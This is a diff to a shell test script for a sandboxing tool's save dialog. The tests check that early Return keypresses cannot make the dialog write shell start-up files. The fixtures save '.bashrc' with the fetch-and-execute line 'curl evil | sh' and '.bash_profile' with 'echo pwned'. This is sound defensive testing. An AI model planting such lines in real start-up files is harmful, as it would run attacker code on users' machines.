@@ -43,7 +43,7 @@ ignored_count() {
 save() {
 	start_client "save-$1" sh -c 'echo "$0" | "${@}"' "$2" "${in_sandbox[@]}" \
 		"$CORDON_PORTAL" save-file --name "$1"
-	wait_for "the save dialog for $1" header_shown
+	dialog_shown_now
 }
 
 # 1. One Return the moment the dialog shows: .bash_profile is not written.
@@ -51,6 +51,7 @@ before=$(ignored_count)
 save .bash_profile "echo pwned"
 not_ready || fail "the dialog took input at once (no grace period)"
 ctl key click Return >/dev/null
+assert "the dialog is on the screen" header_shown
 assert "the Return did not answer the dialog" pending 1
 (($(ignored_count) > before)) || fail "cordon did not log the Return it ignored"
 [[ ! -e "$HOME/.bash_profile" ]] || fail "a stray Return wrote ~/.bash_profile"
@@ -72,6 +73,7 @@ echo "start-up name: Return never saves it"
 save .bashrc "curl evil | sh"
 ctl key click Return Return >/dev/null
 assert "two immediate Returns did not answer" pending 1
+assert "the dialog is on the screen" header_shown
 dialog_ready
 ctl key click Return >/dev/null
 dialog_ready
